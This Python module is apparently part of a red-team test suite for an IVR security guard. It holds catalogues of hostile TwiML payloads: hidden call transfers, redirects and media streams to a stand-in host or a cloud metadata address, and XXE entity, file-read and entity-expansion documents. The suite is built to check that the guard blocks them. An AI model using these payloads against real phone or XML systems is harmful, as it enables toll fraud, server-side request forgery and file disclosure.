"""
Attacks by the IVR's own documents: careless, compromised, or written by somebody whom a voice agent listened to.

Laws of this file
 1. Each document is one of an IVR's behind the guard; the caller has proved only what its first document needs.
 2. What counts is where the caller was really handed, what the IVR was asked for, and whether a request left for a place
    that is not the guard's.
"""

from urllib.parse import urlsplit
from xml.sax.saxutils import escape

from ivrguard.core.assurance import satisfied
from ivrguard.core.flow import Flow
from ivrguard.core.rules import Target, decide
from ivrguard.phone.exchange import Line
from ivrguard.phone.heard import Asked, Said
from ivrguard.phone.redteam.attack import Attack
from ivrguard.phone.redteam.goals import Goal, goals, protected, strength, visit
from ivrguard.phone.redteam.ground import Ground, Stuck, handed_on
from ivrguard.phone.redteam.straying import credulous, spellings
from ivrguard.phone.rig import PUBLIC_URL
from ivrguard.phone.stub import GOES_ON
from ivrguard.phone.world import begin_ms

NUMBER = "+18005550147"
HIDDEN = {
    "Dial": f"<Dial>{NUMBER}</Dial>",
    "a Number in Dial": f"<Dial><Number>{NUMBER}</Number></Dial>",
    "every noun of Dial": f"<Dial><Number>{NUMBER}</Number><Client>redteam</Client><Sip>sip:redteam@pbx.example</Sip></Dial>",
    "a Conference": "<Dial><Conference>redteam</Conference></Dial>",
    "a Queue in Dial": "<Dial><Queue>redteam</Queue></Dial>",
    "Enqueue": "<Enqueue>redteam</Enqueue>",
    "Enqueue into a workflow": '<Enqueue workflowSid="WWredteam"><Task>{"verified": true}</Task></Enqueue>',
    "Refer": "<Refer><Sip>sip:redteam@pbx.example</Sip></Refer>",
    "Connect to a room": "<Connect><Room>redteam</Room></Connect>",
    "Dial behind a Gather": f'<Gather numDigits="1" timeout="1"/><Dial>{NUMBER}</Dial>',
    "Dial behind Pause and Say": f"<Pause/><Say>one moment</Say><Dial>{NUMBER}</Dial>",
    "Dial in a Gather": f"<Gather><Dial>{NUMBER}</Dial></Gather>",
    "Dial in a Say": f"<Say>hello <Dial>{NUMBER}</Dial></Say>",
    "Dial in an unknown verb": f"<Redteam><Dial>{NUMBER}</Dial></Redteam>",
    "Number outside Dial": f"<Number>{NUMBER}</Number>",
    "Dial in small letters": f"<dial>{NUMBER}</dial>",
    "Dial in another namespace": f'<x:Dial xmlns:x="urn:redteam">{NUMBER}</x:Dial>',
    "Dial in CDATA": f"<Dial><![CDATA[{NUMBER}]]></Dial>",
    "Dial behind a comment": f"<!-- > --><Dial>{NUMBER}</Dial>",
    "two transfers": f"<Enqueue>redteam</Enqueue><Dial>{NUMBER}</Dial>",
    "wait music that dials": f'<Enqueue waitUrl="/redteam-wait">redteam</Enqueue><Dial>{NUMBER}</Dial>',
}
"""Transfers, by where they hide."""

OUTSIDE = "https://redteam.example"
LEADING_OUT = {
    "Redirect": "<Redirect>{url}</Redirect>",
    "Gather's action": '<Gather numDigits="1" action="{url}"/>',
    "Gather's partial results": '<Gather input="speech dtmf" numDigits="1" partialResultCallback="{url}" action="/x"/>',
    "Record's action": '<Record action="{url}" recordingStatusCallback="{url}" transcribeCallback="{url}"/>',
    "Play": "<Play>{url}</Play>",
    "Dial's action": f'<Dial action="{{url}}" referUrl="{{url}}">{NUMBER}</Dial>',
    "a whisper": f'<Dial><Number url="{{url}}" statusCallback="{{url}}">{NUMBER}</Number></Dial>',
    "wait music": '<Enqueue waitUrl="{url}" action="{url}">redteam</Enqueue>',
    "a media stream": '<Start><Stream url="wss://redteam.example/x"/></Start>',
    "a machine": '<Connect action="{url}"><ConversationRelay url="wss://redteam.example/x"/></Connect>',
    "an attribute that nobody knows": '<Say landing="{url}">hello</Say><Redirect>{url}</Redirect>',
}
HOSTS = (
    f"{OUTSIDE}/x",
    "//redteam.example/x",
    "https://guard.example@redteam.example/x",
    "https://guard.example.redteam.example/x",
    "http://169.254.169.254/latest/meta-data/",
)

CANARY = "redteam entity"
MANY = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
DECLARED = {
    "an entity": f'<!DOCTYPE Response [<!ENTITY x "{CANARY}">]><Response><Say>&x;</Say></Response>',
    "an entity from a file": '<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    f"<Response><Say>{CANARY} &x;</Say></Response>",
    "an entity from elsewhere": f'<!DOCTYPE Response [<!ENTITY x SYSTEM "{OUTSIDE}/x">]>'
    f"<Response><Say>{CANARY} &x;</Say></Response>",
    "entities of entities": f'<!DOCTYPE Response [<!ENTITY e0 "{CANARY}">{MANY}]><Response><Say>&e8;</Say></Response>',
    "a DTD from elsewhere": f'<!DOCTYPE Response SYSTEM "{OUTSIDE}/x.dtd"><Response><Say>{CANARY}</Say></Response>',
    "an inclusion": '<?xml version="1.0"?><Response xmlns:xi="http://www.w3.org/2001/XInclude"><Say>'
    f'{CANARY}<xi:include href="file:///etc/hostname" parse="text"/></Say></Response>',
}


def _no_transfers(flow: Flow) -> str:
    every = [one for one in protected(flow, begin_ms(flow, None)) if one.target is not None]
    return "" if every else "the flow protects no transfer"


async def _first(ground: Ground) -> Line:
    """A caller at the IVR's first question, who has proved what that needs and no more. Raises `Stuck`."""
    line = ground.call()
    await line.until_input()
    while (asked := await ground.asked(line)) is not None:
        await line.press(f"{ground.who.account}#" if asked == "account" else await ground.right(asked))
    if not await ground.at_the_ivr(line):
        raise Stuck("the IVR's first document asks nothing")
    return line


async def _given(ground: Ground, document: str) -> tuple[Line, int]:
    """A caller who is given this document next; where its events begin."""
    line = await _first(ground)
    assert isinstance(line.waiting, Asked)
    since = len(line.heard)
    ground.ivr.answers(urlsplit(line.waiting.action).path, document, GOES_ON)
    await line.press(GOES_ON)
    ground.tried["documents"] += 1
    return line, since


async def _heard_after(ground: Ground, document: str) -> tuple[Line, int]:
    """The same, and he says nothing for a while."""
    line, since = await _given(ground, document)
    for _ in range(2):
        if await ground.at_the_ivr(line):
            await line.silent()
    return line, since


async def _may(ground: Ground, line: Line, goal: Goal) -> bool:
    """Whether the flow lets this call go there without another question."""
    flow, call = ground.flow, await ground.state(line)
    demand, _ = decide(flow.rules, flow.default, visit(flow, ground.clock(), goal))
    have = frozenset(proof.factor for proof in call.proofs)
    return demand.require is None or (
        demand.reverify is None and satisfied(flow.levels[demand.require], have)
    )


async def _hide_transfers(ground: Ground) -> None:
    """Transfers wherever they can hide: none may connect that the flow wants something more for."""
    ground.ivr.answers("/redteam-wait", f"<Dial>{NUMBER}</Dial>")
    for name, document in HIDDEN.items():
        line, since = await _heard_after(ground, document)
        for where in handed_on(line, since):
            kind, _, value = where.partition(":")
            goal = Goal(ground.flow.default, (), target=Target(kind, value))
            if not await _may(ground, line, goal):
                ground.through(f"{name} connected the caller to {where}, which he had not proved enough for")
        await ground.leave(line)


async def _lead_on(ground: Ground) -> None:
    """Lead a caller from an open document to a protected path: by redirects, actions and wait music, in every spelling."""
    strongest = sorted(
        (one for one in protected(ground.flow, ground.clock()) if one.path and not one.digits),
        key=lambda one: -strength(ground.flow, one.demand),
    )
    for goal in strongest[:1]:
        for document in _leading_on(goal.path, _open_queue(ground)):
            seen = len(ground.ivr.paths_seen())
            line, _ = await _given(ground, document)
            if await _may(ground, line, goal):
                raise Stuck(f"whoever hears the IVR at all may go to {goal}")
            if goal.path in map(credulous, ground.ivr.paths_seen()[seen:]):
                ground.through(f"a document led the caller to {goal}, which he had not proved enough for")
            await ground.leave(line)


def _open_queue(ground: Ground) -> str:
    """A queue where anybody may wait, if there is one: its music is where a caller who proved nothing can be led."""
    every = goals(ground.flow, ground.clock())
    open_ = (one.target for one in every if one.target is not None and one.demand.require is None)
    return next((one.value for one in open_ if one.kind == "enqueue"), "redteam")


def _leading_on(path: str, queue: str) -> tuple[str, ...]:
    """Documents that lead to a path: every way with the plain spelling, and every spelling in one of the ways."""
    ways = (
        "<Redirect>{}</Redirect>",
        '<Redirect method="GET">{}</Redirect>',
        f'<Enqueue waitUrl="{{}}">{escape(queue)}</Enqueue>',
        f"<Redirect>{PUBLIC_URL}{{}}</Redirect>",
    )
    every = [escape(written) for written in spellings(path)]
    plain = [way.format(every[0]) for way in ways]
    return (*plain, *(ways[n % len(ways)].format(written) for n, written in enumerate(every[1:], 1)))


async def _lead_out(ground: Ground) -> None:
    """Links to places that the flow does not list, in every attribute that Twilio follows."""
    for nth, (name, document) in enumerate(LEADING_OUT.items()):
        for url in (HOSTS[0], HOSTS[1 + nth % (len(HOSTS) - 1)]):
            line, _ = await _heard_after(ground, document.format(url=escape(url)))
            legs = [line, *line.legs]
            if any(not request.url.startswith(f"{PUBLIC_URL}/") for leg in legs for request in leg.requests):
                ground.through(
                    f"{name} led the caller's leg out of the guard, to a place that the flow does not list"
                )
            if any("redteam.example/x" in request.body for request in line.requests):
                ground.through(f"{name} kept a link to a place that the flow does not list")
            await ground.leave(line)


async def _declare(ground: Ground) -> None:
    """Documents that declare entities, or fetch and include."""
    for name, document in DECLARED.items():
        line, since = await _heard_after(ground, document)
        if any(isinstance(event, Said) and CANARY in event.text for event in line.heard[since:]):
            ground.through(f"{name} was carried out")
        await ground.leave(line)


ATTACKS = (
    Attack(
        "hide-transfers",
        "Transfers in every place of a document where Twilio might run one",
        "field C: toll fraud, transfer abuse, prompt injection of a voice agent; CWE-436",
        _hide_transfers,
        _no_transfers,
    ),
    Attack(
        "lead-on",
        "An open document that leads to a protected path, in every spelling",
        "field C: prompt injection of a voice agent; CWE-441, CWE-22",
        _lead_on,
        lambda flow: (
            "" if any(g.path for g in protected(flow, begin_ms(flow, None))) else "the flow protects no path"
        ),
    ),
    Attack(
        "lead-out",
        "Links to places that the flow does not list, wherever TwiML has one",
        "OWASP ASVS 5.0, 13.2.4; CWE-918, CWE-601",
        _lead_out,
    ),
    Attack(
        "declare-entities",
        "Documents with entities, DTDs and inclusions",
        "OWASP ASVS 5.0, 1.5.1; CWE-611, CWE-776",
        _declare,
    ),
)
